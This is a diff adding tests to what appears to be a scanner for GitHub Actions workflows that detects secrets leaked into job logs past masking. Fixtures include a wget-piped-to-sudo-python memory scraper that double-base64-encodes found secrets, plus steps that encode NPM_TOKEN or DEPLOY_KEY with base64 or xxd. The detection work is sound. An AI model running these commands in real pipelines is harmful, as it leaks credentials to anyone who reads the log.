@@ -86,6 +86,50 @@ describe('shipped CI workflows', () => {
   it('malformed YAML is read without throwing', () => {
     expect(analyzeWorkflow('jobs: [\n  - : : :\n*x &y')).toEqual([]);
   });
+
+  describe('secrets printed encoded into the job log, past its masking', () => {
+    const steps = (...run: string[]) =>
+      analyzeWorkflow(
+        ['on: pull_request', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...run].join('\n'),
+      );
+    it('runner memory scraped by a downloaded script, filtered for secrets and encoded twice', () => {
+      const hits = steps(
+        '      - run: |',
+        '          wget -qO- https://snippets.example/m.py | sudo python3 | grep -aoE \'"isSecret":true\' | sort -u | base64 -w0 | base64 -w0',
+      );
+      expect(hits.map((h) => [h.rule, h.threat_type])).toEqual([
+        ['workflow.secrets-exfil', 'data_exfiltration'],
+      ]);
+    });
+    it('a named secret, or one handed over in env, encoded with base64 or xxd', () => {
+      expect(steps('      - run: echo "${{ secrets.NPM_TOKEN }}" | base64 | base64')).toHaveLength(1);
+      const viaEnv = analyzeWorkflow(
+        [
+          'jobs:',
+          '  a:',
+          '    steps:',
+          '      - env:',
+          '          KEY: ${{ secrets.DEPLOY_KEY }}',
+          '        run: printf "%s" "$KEY" | xxd -p',
+        ].join('\n'),
+      );
+      expect(viaEnv).toHaveLength(1);
+    });
+    it('decoding a secret into a file or a tool, masking, and encoding what is not a secret stay quiet', () => {
+      expect(steps('      - run: echo "${{ secrets.CERT_P12 }}" | base64 -d > cert.p12')).toEqual([]);
+      expect(steps('      - run: echo "${{ secrets.GPG_KEY }}" | base64 --decode | gpg --import')).toEqual(
+        [],
+      );
+      expect(steps('      - run: tar cz dist | base64 -w0 > dist.b64')).toEqual([]);
+      expect(steps('      - run: echo -n "$GITHUB_SHA" | base64')).toEqual([]);
+      expect(
+        steps(
+          '      - run: echo "::add-mask::$(echo "${{ secrets.API_KEY }}" | base64)"',
+          '      - run: npm test',
+        ),
+      ).toEqual([]);
+    });
+  });
 });
 
 describe('VS Code tasks run when the folder is opened', () => {
